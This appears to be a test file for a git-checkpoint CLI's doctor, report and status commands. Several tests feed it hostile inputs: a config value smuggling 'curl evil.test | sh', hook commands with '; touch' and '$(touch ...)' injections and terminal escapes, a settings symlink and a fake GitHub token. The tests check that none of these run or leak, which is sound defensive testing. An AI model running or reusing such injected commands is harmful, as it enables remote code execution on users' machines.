import { spawnSync } from 'node:child_process';
import {
  existsSync,
  mkdirSync,
  readdirSync,
  readFileSync,
  rmSync,
  symlinkSync,
  utimesSync,
  writeFileSync,
} from 'node:fs';
import { hostname } from 'node:os';
import { join } from 'node:path';
import { setTimeout as sleep } from 'node:timers/promises';
import * as assert from 'uvu/assert';
import { judge } from '../../src/hooks/doctor/check-hooks.ts';
import { checkNode } from '../../src/hooks/doctor/check-versions.ts';
import { fire, prompt, start, stop } from '../support/hook-session.ts';
import { CLI } from '../support/run-cli.ts';
import { checkpoint, runMain } from '../support/run-main.ts';
import { describe } from '../support/suite.ts';
import { type TestRepo, withRepo } from '../support/with-repo.ts';

interface Report {
  repaired: string[];
  findings: { state: string; text: string; hint?: string }[];
}

async function examine(repo: TestRepo, ...args: string[]): Promise<Report & { status: number }> {
  const run = await runMain(repo, ['doctor', '--json', ...args]);
  return { ...JSON.parse(run.stdout), status: run.status };
}

const wrongs = ({ findings }: Report) => findings.filter(({ state }) => state === 'wrong').map(({ text }) => text);

/** Settings as an earlier version wrote them: one event only. */
function hookOnStop(repo: TestRepo): void {
  const command = `'${process.execPath}' '${CLI}' hook claude-code`;
  const settings = { hooks: { Stop: [{ hooks: [{ type: 'command', command }] }] } };
  mkdirSync(join(repo.home, '.claude'));
  writeFileSync(join(repo.home, '.claude', 'settings.json'), JSON.stringify(settings));
}

describe('git checkpoint doctor', (it) => {
  it('finds nothing wrong in a fresh repository', () =>
    withRepo(async (repo) => {
      repo.write('a.txt', 'one\n');
      await checkpoint(repo, 'save', '-m', 'Begin');
      const report = await examine(repo);
      assert.equal(wrongs(report), []);
      assert.is(report.status, 0);
      assert.ok(report.findings.some(({ text }) => text === '1 checkpoint, notes and ledger OK'));
      assert.ok(report.findings.some(({ text }) => /resume from checkpoint 1 \(about \d+ tokens\)/.test(text)));
    }));

  it('names what an agent wrote and nobody reads', () =>
    withRepo(async (repo) => {
      const folder = join(repo.home, '.codex', 'sessions', '2026', '11', '16');
      mkdirSync(folder, { recursive: true });
      const line = (type: string, payload: object) => `${JSON.stringify({ type, payload })}\n`;
      const call = (at: number) => line('response_item', { type: 'function_call', name: 'dream', call_id: `${at}` });
      const meta = line('session_meta', { id: 's1', cwd: repo.root, cli_version: '0.170.0' });
      const path = join(folder, 'rollout-2026-11-16T00-00-00-s1.jsonl');
      writeFileSync(path, meta + line('event_msg', { type: 'user_message', message: 'Go' }));
      assert.not.ok((await examine(repo)).findings.some(({ text }) => text.includes('does not read')));
      const records = line('event_msg', { type: 'x' }).repeat(12) + line('y', {}).repeat(2);
      writeFileSync(path, records + Array.from({ length: 10 }, (_, at) => call(at)).join(''), { flag: 'a' });
      const { findings, status } = await examine(repo);
      const found = findings.find(({ text }) => text.includes('does not read'));
      assert.is(
        found?.text,
        "Codex 0.170.0 wrote 12 records of kind 'event_msg x', 2 of kind 'y', and made 10 of 10 calls with 'dream' that this version does not read",
      );
      assert.equal([found?.state, status], ['note', 0]);
    }));

  it('runs every installed hook and tells how long it took', () =>
    withRepo(async (repo) => {
      mkdirSync(join(repo.home, '.codex'));
      await checkpoint(repo, 'install', 'codex');
      const { findings, status } = await examine(repo);
      assert.is(status, 0);
      assert.ok(findings.some(({ text }) => text.startsWith('Codex, user: 7 hooks in ')));
      assert.ok(findings.some(({ text }) => /^ {2}SessionStart --part 2\/2: \d+ ms$/.test(text)));
      assert.ok(findings.some(({ text }) => /^ {2}SessionEnd: \d+ ms$/.test(text)));
      assert.is(repo.git('for-each-ref', 'refs/checkpoints'), '');
    }));

  it('tries hooks on a sample alone, whatever GIT_DIR names', () =>
    withRepo(async (repo) => {
      repo.write('a.txt', 'one\n');
      mkdirSync(join(repo.home, '.codex'));
      await checkpoint(repo, 'install', 'codex');
      const env = { GIT_DIR: join(repo.root, '.git'), GIT_WORK_TREE: repo.root };
      const run = await runMain(repo, ['doctor'], { env });
      assert.is(run.status, 0, run.stdout);
      assert.not.ok(existsSync(join(repo.root, '.git', 'git-checkpoint', 'sessions')));
      assert.is(repo.git('for-each-ref', 'refs/checkpoints'), '');
    }));

  it('runs no command that a repository brings along, and shows it without its control characters', () =>
    withRepo(async (repo) => {
      const ran = join(repo.home, 'ran');
      const commands = [
        `git-checkpoint hook claude-code; touch '${ran}'`,
        `$(touch\t${ran})/git-checkpoint hook claude-code`,
        'node ./git-checkpoint.cjs hook claude-code',
        'git-checkpoint hook claude-code \x1b[2J',
      ];
      repo.write('git-checkpoint.cjs', `require('fs').writeFileSync(${JSON.stringify(ran)}, '')\n`);
      const settings = { hooks: { Stop: [{ hooks: commands.map((command) => ({ type: 'command', command })) }] } };
      for (const name of ['settings.json', 'settings.local.json'])
        repo.write(`.claude/${name}`, JSON.stringify(settings));
      repo.git('config', 'checkpoint.stateDir', 'state\x1b[2J');
      for (const verb of ['doctor', 'report']) {
        const { stdout } = await runMain(repo, [verb]);
        assert.not.ok(existsSync(ran), verb);
        if (verb === 'report') assert.match(stdout, 'state_dirs = state (git config)');
        assert.match(stdout, 'Stop: not tried');
        assert.not.match(stdout, '\x1b');
      }
    }));

  it('follows no link of a repository to settings elsewhere', () =>
    withRepo(async (repo) => {
      const hook = { type: 'command', command: 'git-checkpoint hook claude-code' };
      const settings = { disableAllHooks: true, hooks: { Stop: [{ hooks: [hook] }] } };
      writeFileSync(join(repo.home, 'elsewhere.json'), JSON.stringify(settings));
      mkdirSync(join(repo.root, '.claude'));
      for (const name of ['settings.json', 'settings.local.json'])
        symlinkSync(join(repo.home, 'elsewhere.json'), join(repo.root, '.claude', name));
      const { stdout } = await runMain(repo, ['doctor']);
      assert.not.match(stdout, 'disableAllHooks');
      assert.not.match(stdout, 'Claude Code, project');
    }));

  it('tries the hooks of a project that are as install writes them', () =>
    withRepo(async (repo) => {
      await checkpoint(repo, 'install', 'claude-code', '--project');
      const { findings } = await examine(repo);
      assert.ok(findings.some(({ text }) => /^ {2}SessionEnd: \d+ ms/.test(text)));
      assert.not.ok(findings.some(({ text }) => text.includes('not tried')));
    }));

  it('says when installed hooks are of an older version', () =>
    withRepo(async (repo) => {
      hookOnStop(repo);
      const report = await examine(repo);
      assert.is(report.status, 1);
      assert.match(wrongs(report).join('\n'), ': hooks are missing or outdated');
    }));

  it('leaves nothing of its trials, not even what a save beside a hook has to say', () =>
    withRepo(async (repo) => {
      hookOnStop(repo);
      const [home, temporary] = [readdirSync(repo.home), join(repo.home, 'tmp')];
      mkdirSync(temporary);
      const { TMPDIR } = process.env;
      process.env['TMPDIR'] = temporary;
      try {
        const { findings } = await examine(repo);
        assert.ok(findings.some(({ text }) => /^ {2}Stop: \d+ ms$/.test(text)));
        // A save that was begun beside the hook would speak by then.
        await sleep(700);
        assert.equal(readdirSync(temporary), []);
      } finally {
        if (TMPDIR === undefined) delete process.env['TMPDIR'];
        else process.env['TMPDIR'] = TMPDIR;
      }
      assert.equal(readdirSync(repo.home).sort(), [...home, 'tmp'].sort());
    }));

  it('names a setting that is wrong', () =>
    withRepo(async (repo) => {
      repo.git('config', 'checkpoint.thresholdPercent', '12');
      const report = await examine(repo);
      assert.is(report.status, 1);
      assert.match(wrongs(report).join(), /settings: .* must be 70–95 \(got '12'\)/);
    }));

  it('tells what a repository says and has no say in', () =>
    withRepo(async (repo) => {
      repo.git('config', 'checkpoint.llm', 'on');
      const report = await runMain(repo, ['doctor']);
      assert.match(report.stdout, 'checkpoint.llm counts for nothing: only your own settings decide it');
      assert.match(report.stdout, 'no model is asked (checkpoint.llm is off)');
      repo.git('config', 'checkpoint.model', 'x; curl evil.test | sh');
      assert.match((await runMain(repo, ['doctor'])).stdout, 'config set model "x; curl evil.test | sh"');
      assert.match(await checkpoint(repo, 'config'), 'analysis.llm = off  (default; .git/config has no say in it)');
      await checkpoint(repo, 'config', 'set', 'llm', 'on');
      assert.is(await checkpoint(repo, 'config', 'get', 'llm'), 'on\n');
      assert.is(repo.git('config', '--global', `checkpoint.${repo.root}/.git.llm`), 'on');
      await checkpoint(repo, 'config', 'unset', 'llm');
      assert.is(await checkpoint(repo, 'config', 'get', 'llm'), 'off\n');
    }));

  it('names an engine that there is not, which config takes out', () =>
    withRepo(async (repo) => {
      repo.git('config', '--global', 'checkpoint.engine', 'jgit');
      const report = await examine(repo);
      assert.is(report.status, 1);
      assert.match(
        wrongs(report).join(),
        /settings: .*gitconfig-of-test: checkpoint\.engine must be one of .* \(got 'jgit'\)/,
      );
      assert.match((await runMain(repo, ['save'])).stderr, "(got 'jgit'); the default is used");
      await checkpoint(repo, 'config', 'unset', '--global', 'engine');
      await checkpoint(repo, 'save');
    }));

  it('finds lost notes again', () =>
    withRepo(async (repo) => {
      repo.write('a.txt', 'one\n');
      await checkpoint(repo, 'save', '-m', 'First', '--decision', 'We keep it simple');
      repo.write('a.txt', 'two\n');
      await checkpoint(repo, 'save', '-m', 'Second');
      repo.git('notes', '--ref=checkpoints', 'remove', 'refs/checkpoints/1');
      assert.equal(wrongs(await examine(repo)), ['checkpoint 1: note missing']);
      const report = await examine(repo, '--repair');
      assert.equal(report.repaired, ['found 1 lost note again (1 note untouched)']);
      assert.is(report.status, 0);
      assert.match(repo.git('notes', '--ref=checkpoints', 'show', 'refs/checkpoints/1'), 'We keep it simple');
    }));

  it('replaces a note that cannot be read', () =>
    withRepo(async (repo) => {
      repo.write('a.txt', 'one\n');
      await checkpoint(repo, 'save', '-m', 'First', '--next', 'Write the test');
      repo.git('notes', '--ref=checkpoints', 'add', '-f', '-m', 'schema: [', 'refs/checkpoints/1');
      assert.is((await examine(repo)).status, 1);
      assert.is((await examine(repo, '--repair')).status, 0);
      assert.match(await checkpoint(repo, 'resume'), 'Write the test');
    }));

  it('writes a damaged ledger anew and gives no number out twice', () =>
    withRepo(async (repo) => {
      repo.write('a.txt', 'one\n');
      await checkpoint(repo, 'save');
      repo.write('a.txt', 'two\n');
      await checkpoint(repo, 'save');
      await checkpoint(repo, 'drop', '2');
      writeFileSync(join(repo.root, 'ledger.txt'), 'hwm 2\nnonsense\n');
      repo.git('update-ref', 'refs/checkpoint-meta/ledger', repo.git('hash-object', '-w', 'ledger.txt'));
      assert.match(wrongs(await examine(repo)).join(), 'the ledger is damaged');
      assert.equal((await examine(repo, '--repair')).repaired, ['wrote the ledger anew']);
      assert.is(JSON.parse(await checkpoint(repo, 'save', '--json')).number, 3);
    }));

  it('finds all notes again when their commit or their tree is gone', () =>
    withRepo(async (repo) => {
      repo.write('a.txt', 'one\n');
      await checkpoint(repo, 'save', '-m', 'First', '--next', 'Write the test');
      for (const lost of ['refs/notes/checkpoints', 'refs/notes/checkpoints^{tree}']) {
        const oid = repo.git('rev-parse', lost);
        rmSync(join(repo.root, '.git', 'objects', oid.slice(0, 2), oid.slice(2)));
        assert.match(wrongs(await examine(repo)).join(), /the notes .* damaged|: note missing/, lost);
        const report = await examine(repo, '--repair');
        assert.equal(report.repaired, ['found 1 lost note again (0 notes untouched)'], lost);
        assert.is(report.status, 0);
        assert.match(repo.git('notes', '--ref=checkpoints', 'show', 'refs/checkpoints/1'), 'Write the test');
      }
    }));

  it('names a checkpoint whose commit is gone, which lists and can be dropped', () =>
    withRepo(async (repo) => {
      for (const text of ['one', 'two', 'three']) {
        repo.write('a.txt', text);
        await checkpoint(repo, 'save', '-m', text);
      }
      const oid = repo.git('rev-parse', 'refs/checkpoints/2');
      rmSync(join(repo.root, '.git', 'objects', oid.slice(0, 2), oid.slice(2)));
      const report = await examine(repo);
      assert.equal(wrongs(report), [`checkpoint 2: its commit ${oid} is missing`]);
      assert.match(
        await checkpoint(repo, 'list'),
        /○ 3 .*three.*\n[\s\S]*✗ 2 +damaged: its commit .* is missing\n[\s\S]*○ 1 .*one/,
      );
      const shown = await runMain(repo, ['show', '2']);
      assert.is(shown.status, 128);
      assert.match(shown.stderr, /checkpoint 2 cannot be read: its commit .* is missing\nhint: Another clone/);
      await checkpoint(repo, 'drop', '2');
      assert.is((await examine(repo)).status, 0);
    }));

  it('does the save that a hook left when it died with the lock', () =>
    withRepo(async (repo) => {
      repo.write('a.txt', 'one\n');
      const own = join(repo.root, '.git', 'git-checkpoint');
      mkdirSync(join(own, 'jobs'), { recursive: true });
      writeFileSync(join(own, 'saving'), `${spawnSync('true').pid}@${hostname()}+1`);
      const event = { kind: 'before-compact', trigger: 'manual', session: 'session-1', identity: 'x' };
      writeFileSync(join(own, 'jobs', '1-a.json'), JSON.stringify({ agent: 'claude-code', event, at: '' }));
      writeFileSync(join(own, 'jobs', '2-b.json'), 'no job at all');
      assert.equal((await examine(repo, '--repair')).repaired, []);
      assert.equal(readdirSync(join(own, 'jobs')), []);
    }));

  it('removes locks that nobody holds', () =>
    withRepo(async (repo) => {
      repo.write('a.txt', 'one\n');
      await checkpoint(repo, 'save');
      const lock = join(repo.root, '.git', 'refs', 'checkpoints', '2.lock');
      writeFileSync(lock, '');
      utimesSync(lock, new Date('2026-01-01'), new Date('2026-01-01'));
      assert.match(wrongs(await examine(repo)).join(), 'a lock was left behind');
      assert.is((await examine(repo, '--repair')).status, 0);
      assert.not.ok(existsSync(lock));
    }));

  it('shows what hooks could not do', () =>
    withRepo(async (repo) => {
      const config = readFileSync(join(repo.root, '.git/config'), 'utf8');
      repo.write('.git/config', `${config}[open\n`);
      await fire(repo, { hook_event_name: 'SessionStart', source: 'startup' });
      repo.write('.git/config', config);
      assert.match((await runMain(repo, ['doctor'])).stdout, /– .* session-start: bad config line/);
    }));

  it('works outside of a repository', () =>
    withRepo(async (repo) => {
      const run = await runMain(repo, ['doctor'], { cwd: repo.home });
      assert.is(run.status, 0);
      assert.match(run.stdout, '– not a git repository');
    }));
});

describe('git checkpoint report', (it) => {
  it('says what a report of a defect needs, and nothing about whose it is', () =>
    withRepo(async (repo) => {
      const token = `ghp_${'a1B2c3D4e5'.repeat(4).slice(0, 36)}`;
      repo.git('config', 'checkpoint.mode', 'summary');
      repo.git('config', '--global', 'checkpoint.remote', token);
      mkdirSync(join(repo.root, '.git', 'git-checkpoint'));
      writeFileSync(
        join(repo.root, '.git', 'git-checkpoint', 'journal'),
        `now turn-end: no ${repo.root}/src\nC:\\Users\\zoe\\src\n`,
      );
      const text = await checkpoint(repo, 'report');
      assert.match(text, /^## git-checkpoint report\n\n- \S+ \S+ \S+\n/);
      assert.match(text, '- checkpoint.mode = summary (git config)\n');
      assert.match(text, /^- ok: git-checkpoint \S+ on node v\d+/m);
      assert.match(text, '- note: now turn-end: no src\n');
      for (const own of [repo.home, token]) assert.not.match(text, own);
      const json = await checkpoint(repo, 'report', '--json');
      for (const own of [repo.home, token, 'zoe']) assert.not.match(json, own);
      const { settings, findings } = JSON.parse(json);
      assert.ok(settings.length === 2 && findings.length > 4);
    }));

  it('is made where something is wrong, too', () =>
    withRepo(async (repo) => {
      repo.git('config', 'checkpoint.mode', 'odd');
      assert.match(await checkpoint(repo, 'report'), /^- wrong: settings: /m);
      assert.match((await runMain(repo, ['report'], { cwd: repo.home })).stdout, '- note: not a git repository');
    }));
});

describe('the judgement of a hook', (it) => {
  const hook = { event: 'SessionStart', command: 'git-checkpoint hook claude-code --part 1/2', limit: 20_000 };
  const trial = { status: 0, milliseconds: 120, characters: 900, stderr: '' };

  it('is good when it ends in time and fits', () => {
    assert.equal(judge(hook, trial, 10_000), {
      state: 'ok',
      text: '  SessionStart --part 1/2: 120 ms, 900 characters',
      milliseconds: 120,
      limit: 20_000,
    });
  });

  it('is bad when it is too slow, too long or fails', () => {
    assert.is(judge(hook, { ...trial, status: null }, 10_000).state, 'wrong');
    assert.is(judge(hook, { ...trial, status: 127, stderr: 'not found' }, 10_000).state, 'wrong');
    assert.is(judge(hook, { ...trial, characters: 10_001 }, 10_000).state, 'wrong');
  });

  it('is told when it ends in time and is felt all the same', () => {
    const second = { ...hook, command: 'git-checkpoint hook claude-code --part 2/2' };
    const slow = judge(second, { ...trial, milliseconds: 8166, characters: 0 }, 10_000);
    assert.equal([slow.state, slow.text], ['note', '  SessionStart --part 2/2: 8166 ms, for which the agent waits']);
    assert.match(slow.hint ?? '', 'It waits for part 1');
  });
});

describe('the version of node', (it) => {
  it('is good from 20.19 and 22.12 on', () => {
    for (const version of ['v20.19.0', 'v22.12.1', 'v23.0.0', 'v24.1.0']) assert.is(checkNode(version).state, 'ok');
    for (const version of ['v18.20.0', 'v20.11.0', 'v21.7.0', 'v22.3.0']) assert.is(checkNode(version).state, 'wrong');
  });
});

describe('git checkpoint status', (it) => {
  it('shows what differs from the newest checkpoint, what is kept, hooks, sharing and model', () =>
    withRepo(async (repo) => {
      assert.match(await checkpoint(repo, 'status'), /^On main, no checkpoint here yet\./);
      assert.is(await checkpoint(repo, 'status', '--short'), '◇\n');
      repo.write('a.txt', 'one\n');
      await checkpoint(repo, 'save', '-m', 'Begin the work');
      assert.is(await checkpoint(repo, 'status', '--short'), '◆1 now\n');
      await checkpoint(repo, 'keep', '1');
      repo.write('a.txt', 'one\ntwo\n');
      assert.equal((await checkpoint(repo, 'status')).split('\n'), [
        'On main, 1 file, +1 -0 since checkpoint 1 (just now: Begin the work)',
        'Kept      1',
        'Undo      keep checkpoint 1 "Begin the work"',
        'Hooks     none; run `git checkpoint install`',
        'Sharing   off',
        'Model     off; nothing is sent',
        '',
      ]);
      assert.is(await checkpoint(repo, 'status', '--short'), '◆1 now ✎1\n');
      const json = JSON.parse(await checkpoint(repo, 'status', '--json'));
      assert.equal([json.checkpoint.number, json.changes.length, json.kept], [1, 1, [1]]);
    }));

  it('tells two sessions and their lines of work apart', () =>
    withRepo(async (repo) => {
      repo.commit('begin');
      const sessions = { one: process.pid, two: process.ppid };
      for (const [name, pid] of Object.entries(sessions)) {
        const env = { CLAUDE_PID: String(pid) };
        await fire(repo, start('startup', name), { env });
        await fire(repo, { ...prompt(name), session_id: name }, { env });
        repo.write(`${name}.txt`, `${name}\n`);
        await fire(repo, { ...stop(name), session_id: name }, { env });
      }
      const text = await checkpoint(repo, 'status');
      assert.match(
        text,
        /^Session {3}Claude Code two, last saved just now\nSession {3}Claude Code one, last saved just now\n/m,
      );
      assert.match(text, /^Also {6}.+ \(another session is at it\): `git checkpoint resume 1`$/m);
      const json = JSON.parse(await checkpoint(repo, 'status', '--json'));
      assert.equal(
        json.sessions.map(({ id }: { id: string }) => id),
        ['two', 'one'],
      );
      assert.equal(
        json.unfinished.map(({ number }: { number: number }) => number),
        [1],
      );
    }));

  const line = (repo: TestRepo, percent: number | null) =>
    JSON.stringify({
      session_id: 'session-1',
      workspace: { current_dir: repo.root },
      context_window: { used_percentage: percent },
    });

  it('tells the hooks of Claude Code how full the context is', () =>
    withRepo(async (repo) => {
      repo.write('a.txt', 'one\n');
      assert.is(
        (await runMain(repo, ['status'], { input: line(repo, 83) })).stdout,
        'no checkpoint yet · context 83%\n',
      );
      assert.match((await fire(repo, prompt('p1'))).notice, /^Context 83% full\. Checkpoint saved: /);
    }));

  it('says first that saves fail, since when and why', () =>
    withRepo(async (repo) => {
      repo.write('a.txt', 'one\n');
      await checkpoint(repo, 'save', '-m', 'one');
      const since = new Date(Date.now() - 3 * 86_400_000);
      const unsaved = { since: since.toISOString(), cause: 'no space left on the disk' };
      const mark = join(repo.root, '.git', 'git-checkpoint', 'unsaved');
      writeFileSync(mark, JSON.stringify(unsaved));
      const when = /[A-Z][a-z]{2} \d\d:\d\d/.source;
      assert.match(
        await checkpoint(repo, 'status'),
        new RegExp(`\nUnsaved +since ${when}: no space left on the disk\n`),
      );
      assert.is(await checkpoint(repo, 'status', '--short'), '◆1 now !\n');
      assert.equal(JSON.parse(await checkpoint(repo, 'status', '--json')).unsaved, unsaved);
      const drawn = await runMain(repo, ['status'], { input: line(repo, 20) });
      assert.match(drawn.stdout, new RegExp(`^not saved since ${when} · checkpoint 1, `));
      writeFileSync(mark, JSON.stringify({ ...unsaved, over: true }));
      assert.not.match(await checkpoint(repo, 'status'), /Unsaved/);
    }));

  it('says in the line of an agent that a repository cannot be read', () =>
    withRepo(async (repo) => {
      writeFileSync(join(repo.root, '.git', 'config'), '[core\n');
      const run = await runMain(repo, ['status'], { input: line(repo, null) });
      assert.equal([run.status, run.stdout], [0, 'checkpoints cannot be read: run git checkpoint doctor\n']);
    }));

  it('stays empty as the line of an agent outside of a repository', () =>
    withRepo(async (repo) => {
      const input = line({ ...repo, root: repo.home }, null);
      const run = await runMain(repo, ['status'], { input, cwd: repo.home });
      assert.equal([run.status, run.stdout, run.stderr], [0, '', '']);
      assert.is((await runMain(repo, ['status'], { cwd: repo.home })).status, 128);
    }));
});
